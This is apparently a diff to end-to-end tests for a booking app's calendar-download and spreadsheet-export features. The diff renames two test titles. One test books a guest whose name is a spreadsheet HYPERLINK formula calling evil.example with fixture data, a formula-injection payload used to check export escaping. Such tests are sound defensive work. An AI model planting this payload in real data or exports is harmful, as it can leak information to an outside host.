@@ -9,7 +9,7 @@ import { guestsFrom } from './test.ts';
 const textOf = async (download: Download): Promise<string> => (await buffer(await download.createReadStream())).toString();
 
 walk.for(guestsFrom('en'))(
-  'the owner keeps a session in the calendar, on a $device in $spoken',
+  'downloads a booking as a calendar entry, on a $device in $spoken',
   async ({ language, device }, { visit, bookings }) => {
     const booking = await bookings.book({
       name: 'عبدالله، القحطاني; الأب',
@@ -44,7 +44,7 @@ walk.for(guestsFrom('en'))(
 );
 
 walk.for(guestsFrom('ar'))(
-  'the owner has what is shown as a spreadsheet, on a $device in $spoken',
+  'exports the shown bookings as a spreadsheet, on a $device in $spoken',
   async ({ language, device }, { visit, bookings }) => {
     const hostile = await bookings.book({
       name: `=HYPERLINK("http://evil.example/${bookings.word}","Sara")`,
